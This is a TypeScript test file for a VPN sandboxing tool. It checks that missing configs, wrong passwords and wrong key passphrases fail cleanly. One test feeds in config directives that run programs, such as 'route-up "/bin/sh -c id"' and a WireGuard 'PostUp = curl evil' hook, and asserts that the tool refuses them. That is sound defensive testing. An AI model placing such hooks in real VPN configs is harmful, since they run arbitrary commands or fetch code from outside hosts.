// Bad VPN configurations fail clearly and leave nothing behind: a missing file, directives that
// run programs, and a wrong password (FAILED once, no retry storm).
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { cmdlinesWith, sandtrayEnv, writeProfile, type Env } from '../lib/sandtray.js';
import { startKeyring, type Keyring } from '../lib/keyring.js';
import { labLog, startOvpnServer, stopAllLab, until, type OvpnServer } from '../lib/vpn-lab.js';
import { vpnStatus, waitVpn } from '../lib/vpn-wait.js';
import { helper, running } from '../lib/vpn-capture.js';

describe('bad VPN configurations', { timeout: 300_000 }, () => {
  let e: Env;
  let keyring: Keyring;
  let server: OvpnServer;

  let keyed: OvpnServer;

  before(async () => {
    keyring = await startKeyring();
    e = sandtrayEnv('vpn-bad');
    e.env['DBUS_SESSION_BUS_ADDRESS'] = keyring.address;
    [server, keyed] = await Promise.all([
      startOvpnServer('bad', '198.18.60.2', { proto: 'tcp', subnet: '198.19.8', redirectGateway: true, user: { name: 'carol', password: 'right' }, token: 'bad-server', dnsName: 'x.vpn.test' }),
      startOvpnServer('bad-key', '198.18.61.2', { proto: 'udp', subnet: '198.19.8', redirectGateway: true, token: 'bad-key', dnsName: 'x.vpn.test' }, 'the right passphrase'),
    ]);
  });
  after(async () => {
    await e?.cleanup();
    await server?.stop();
    await keyed?.stop();
    await stopAllLab();
    await keyring?.stop();
  });

  it('a missing file is named in the error', async () => {
    const r = await e.run(['vpn', 'import', path.join(e.dir, 'nope.ovpn')]);
    assert.equal(r.exitCode, 1);
    assert.match(r.stderr, /nope\.ovpn does not exist/);
    const prof = writeProfile(e, 'gone', `apiVersion: sandtray/v1\nnetwork:\n  mode: vpn\n  vpn: {type: openvpn, config: ${e.dir}/gone.ovpn}\n`);
    const c = await e.run(['create', 'gone', '--profile', prof]);
    assert.equal(c.exitCode, 1);
    assert.match(c.stderr, /gone\.ovpn does not exist/);
  });

  it('a config removed after import fails the start and leaves nothing running', async () => {
    const file = path.join(e.dir, 'later.ovpn');
    fs.writeFileSync(file, server.clientConfig());
    await e.ok(['vpn', 'import', file]);
    fs.rmSync(path.join(e.env['XDG_CONFIG_HOME']!, 'sandtray', 'vpn', 'later.ovpn'));
    const r = await e.run(['start', 'later']);
    assert.equal(r.exitCode, 1);
    assert.match(r.stderr, /later\.ovpn does not exist/);
    assert.match(await e.ok(['info', 'later']), /State: +STOPPED/);
    assert.deepEqual(cmdlinesWith(path.join(e.env['XDG_RUNTIME_DIR']!, 'sandtray', 'later')), []);
  });

  it('directives that run programs are refused by name, and nothing is created', async () => {
    const file = path.join(e.dir, 'scripts.ovpn');
    fs.writeFileSync(file, server.clientConfig(['script-security 2', 'up /bin/true', 'route-up "/bin/sh -c id"', 'plugin /usr/lib/x.so']));
    const r = await e.run(['vpn', 'import', file]);
    assert.equal(r.exitCode, 1);
    for (const d of ['up', 'route-up', 'plugin']) assert.match(r.stderr, new RegExp(`"${d}" at line`));
    // script-security alone starts nothing: Sandtray sets its own (0), so it is dropped, not refused.
    assert.doesNotMatch(r.stderr, /"script-security" at line/);
    assert.equal(JSON.parse(await e.ok(['list', '--json'])).filter((s: { name: string }) => s.name === 'scripts').length, 0);
    assert.ok(!fs.existsSync(path.join(e.env['XDG_CONFIG_HOME']!, 'sandtray', 'profiles', 'scripts.sandtray')));
    const wg = path.join(e.dir, 'hook.conf');
    fs.writeFileSync(wg, '[Interface]\nPrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\nAddress = 198.19.9.2/24\nPostUp = curl evil\n[Peer]\nPublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nAllowedIPs = 0.0.0.0/0\n');
    const w = await e.run(['vpn', 'import', wg]);
    assert.equal(w.exitCode, 1);
    assert.match(w.stderr, /"PostUp" at line 4/);
  });

  it('a wrong password ends in FAILED with a clear message, once', async () => {
    const file = path.join(e.dir, 'wrong.ovpn');
    fs.writeFileSync(file, server.clientConfig());
    await e.ok(['vpn', 'import', file]);
    await e.ok(['secret', 'set', 'wrong', 'username'], { input: 'carol' });
    await e.ok(['secret', 'set', 'wrong', 'password'], { input: 'wrong' });
    const before = labLog(server.ns, 'openvpn.log').split('\n').filter((l) => /TLS Auth Error|verification failed/i.test(l)).length;
    await e.ok(['start', 'wrong']);
    const st = await waitVpn(e, 'wrong', 'failed', 30_000);
    assert.match(String(st.message), /authentication failed: the server refused the user name or password/);
    assert.match(String(st.message), /sandtray secret set wrong password/);
    const client = helper(e, 'wrong', 'openvpn');
    const attempts = (): number => labLog(server.ns, 'openvpn.log').split('\n').filter((l) => /TLS Auth Error|verification failed/i.test(l)).length - before;
    // What must happen, waited for (bounded): the client exits, and the server logged the refusal.
    await until(() => !running(client), 30_000, 'the OpenVPN client to exit after the refusal');
    await until(() => attempts() >= 1, 30_000, `the server to log the refused attempt: ${labLog(server.ns, 'openvpn.log').slice(-1000)}`);
    // What must not happen: a second attempt (the agent starting the client again, a retry storm).
    // Something that does not happen can only be shown by giving it a fixed time to happen; the
    // client's own retry would come within seconds of the refusal.
    await sleep(6000);
    assert.equal((await vpnStatus(e, 'wrong')).state, 'failed');
    assert.ok(attempts() <= 2, `one refused attempt at the server, saw ${attempts()}`);
    const human = await e.run(['vpn', 'status', 'wrong']);
    assert.equal(human.exitCode, 1);
    assert.match(human.stdout, /State: +failed/);
    await e.ok(['stop', 'wrong']);
  });

  it('a wrong private key passphrase ends in FAILED, asked once', async () => {
    const file = path.join(e.dir, 'badkey.ovpn');
    fs.writeFileSync(file, keyed.clientConfig());
    await e.ok(['vpn', 'import', file]);
    await e.ok(['secret', 'set', 'badkey', 'key-passphrase'], { input: 'a wrong passphrase' });
    await e.ok(['start', 'badkey']);
    const st = await waitVpn(e, 'badkey', 'failed', 30_000);
    assert.match(String(st.message), /the private key passphrase is wrong; fix it with `sandtray secret set badkey key-passphrase`/);
    await sleep(3000);
    const log = await e.ok(['log', 'badkey']);
    assert.ok((log.match(/Need 'Private Key' password/g) ?? []).length <= 2, `asked again and again:\n${log.slice(-2000)}`);
    assert.equal((await vpnStatus(e, 'badkey')).state, 'failed');
    await e.ok(['stop', 'badkey']);
  });
});
